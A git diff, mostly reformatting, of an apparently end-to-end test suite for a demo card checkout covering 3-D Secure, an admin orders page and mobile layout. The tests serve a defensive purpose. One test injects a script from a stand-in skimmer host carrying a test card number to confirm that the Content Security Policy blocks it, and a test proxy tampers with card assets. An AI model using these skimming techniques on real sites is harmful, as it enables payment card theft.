@@ -17,20 +17,24 @@ import { wantedEngines } from '../support/browsers.js'
 async function alteringProxy(target: string): Promise<{ url: string; altered: string[]; server: Server }> {
   const altered: string[] = []
   const server = createServer((req, res) => {
-    const upstream = request(new URL(req.url!, target), { method: req.method, headers: { ...req.headers, host: new URL(target).host } }, (answer) => {
-      const chunks: Buffer[] = []
-      answer.on('data', (chunk: Buffer) => chunks.push(chunk))
-      answer.on('end', () => {
-        let body = Buffer.concat(chunks)
-        if (/^\/assets\/card-jwe-.*\.js$/.test(req.url!)) {
-          body = Buffer.concat([body, Buffer.from('\n;globalThis.skimmed = true\n')])
-          altered.push(req.url!)
-        }
-        const headers = { ...answer.headers, 'content-length': String(body.length) }
-        delete headers['transfer-encoding']
-        res.writeHead(answer.statusCode!, headers).end(body)
-      })
-    })
+    const upstream = request(
+      new URL(req.url!, target),
+      { method: req.method, headers: { ...req.headers, host: new URL(target).host } },
+      (answer) => {
+        const chunks: Buffer[] = []
+        answer.on('data', (chunk: Buffer) => chunks.push(chunk))
+        answer.on('end', () => {
+          let body = Buffer.concat(chunks)
+          if (/^\/assets\/card-jwe-.*\.js$/.test(req.url!)) {
+            body = Buffer.concat([body, Buffer.from('\n;globalThis.skimmed = true\n')])
+            altered.push(req.url!)
+          }
+          const headers = { ...answer.headers, 'content-length': String(body.length) }
+          delete headers['transfer-encoding']
+          res.writeHead(answer.statusCode!, headers).end(body)
+        })
+      },
+    )
     req.pipe(upstream)
   })
   await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
@@ -131,7 +135,12 @@ describe.each(engines)('the demo checkout in %s', (engine) => {
     await typeCard(findTestCard({ brand: 'visa', threeDSecure: 'challenge' }))
     await shopper.click('#pay')
     await shopper.waitFor('iframe[title="Card verification by your bank"]')
-    expect(await shopper.evaluate(() => [(document.querySelector('#pay-ideal') as HTMLButtonElement).disabled, (document.querySelector('#pay') as HTMLButtonElement).disabled])).toEqual([true, true])
+    expect(
+      await shopper.evaluate(() => [
+        (document.querySelector('#pay-ideal') as HTMLButtonElement).disabled,
+        (document.querySelector('#pay') as HTMLButtonElement).disabled,
+      ]),
+    ).toEqual([true, true])
     await shopper.answerChallenge('password')
     expect(await resultCode()).toBe('Authorised')
   })
@@ -161,7 +170,16 @@ describe.each(engines)('the demo checkout in %s', (engine) => {
     await shopper.open(`${stack.shop.url}/admin.html`)
     await shopper.waitFor('body[data-ready="true"]', { attached: true })
     const read = async () => {
-      const rows = await shopper.evaluate(() => [...document.querySelectorAll('#orders tr')].map((tr) => [tr.children[0]!.textContent, tr.children[2]!.textContent, [...tr.querySelectorAll('button')].map((b) => b.textContent)] as const))
+      const rows = await shopper.evaluate(() =>
+        [...document.querySelectorAll('#orders tr')].map(
+          (tr) =>
+            [
+              tr.children[0]!.textContent,
+              tr.children[2]!.textContent,
+              [...tr.querySelectorAll('button')].map((b) => b.textContent),
+            ] as const,
+        ),
+      )
       const found = rows.find(([ref]) => ref === reference)!
       return [found[1], found[2]]
     }
@@ -213,11 +231,12 @@ describe.each(engines)('the demo checkout in %s', (engine) => {
     await shopper.setSize(390, 844)
     try {
       await openCheckout()
-      const fits = () => shopper.evaluate(() => {
-        const page = document.documentElement
-        const cvc = document.querySelector('#card-cvc')!.getBoundingClientRect()
-        return { width: page.clientWidth, sideways: page.scrollWidth > page.clientWidth, cvcInside: cvc.right <= page.clientWidth }
-      })
+      const fits = () =>
+        shopper.evaluate(() => {
+          const page = document.documentElement
+          const cvc = document.querySelector('#card-cvc')!.getBoundingClientRect()
+          return { width: page.clientWidth, sideways: page.scrollWidth > page.clientWidth, cvcInside: cvc.right <= page.clientWidth }
+        })
       const checkout = await fits()
       // WebKitGTK's MiniBrowser window stops at 447 px wide: still a phone's layout (under 480 px).
       expect(checkout.width).toBeLessThanOrEqual(480)
@@ -255,7 +274,9 @@ describe.each(engines)('the demo checkout in %s', (engine) => {
       script.src = 'https://skimmer.example/collect.js?pan=5555444433331111'
       document.head.append(script)
     })
-    await expect.poll(() => stack.shopLog.filter((line) => line.startsWith('CSP violation')).slice(before)).toEqual(['CSP violation reported: script-src-elem blocked https://skimmer.example'])
+    await expect
+      .poll(() => stack.shopLog.filter((line) => line.startsWith('CSP violation')).slice(before))
+      .toEqual(['CSP violation reported: script-src-elem blocked https://skimmer.example'])
     expect(stack.shopLog.filter((line) => /5555|collect\.js|pan=/.test(line))).toEqual([])
   })
 
